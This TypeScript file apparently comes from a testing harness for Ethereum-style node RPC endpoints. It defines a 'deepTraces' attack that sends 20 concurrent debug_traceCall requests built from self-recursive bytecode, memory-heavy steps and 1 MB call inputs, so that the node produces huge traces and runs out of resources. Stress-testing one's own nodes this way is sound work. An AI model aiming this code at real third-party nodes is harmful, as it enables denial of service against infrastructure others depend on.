import { callOf, endlessLoop } from '#qord/testing/evm/evm-loops.ts';
import { type Attack, sized } from '../attack.ts';
import { callsWithoutGas, sha256 } from './native-zero-gas.ts';

/** Code that calls itself as deep and as often as the gas allows. */
const recursion = endlessLoop([], [0, 0, 0, 0, 0, 'ADDRESS', 'GAS', 'CALL', 'POP']);
/** Code whose every step has 64 kB of memory. */
const wideSteps = endlessLoop([0, 65_535, 'MSTORE8'], [1, 'POP']);

/** Traces that grow as long as the execution lasts. */
export const deepTraces: Attack = {
  summary:
    '20 debug_traceCall at once of a self-recursion (callTracer), of steps with 64 kB of memory, of calls with 1 MB of input',
  attack: async (context) => {
    const { clients, urls } = context;
    const loops = sized(context, 20, 2);
    const size = sized(context, 2 ** 20, 2 ** 17);
    const trace = (code: Uint8Array, options: object) => {
      const [call, block, stateOverrides] = callOf(code);
      return clients.call(urls.http ?? '', 'debug_traceCall', call, block, { ...options, stateOverrides });
    };
    const loop = async () => {
      await trace(recursion, { tracer: 'callTracer' });
      await trace(wideSteps, { enableMemory: true });
      await trace(recursion, { tracer: 'flatCallTracer' });
      await trace(callsWithoutGas(sha256, size), { tracer: 'callTracer', tracerConfig: { onlyTopCall: true } });
      await trace(callsWithoutGas(sha256, size), { tracer: 'callTracer' });
    };
    await Promise.all(Array.from({ length: loops }, loop));
  },
};
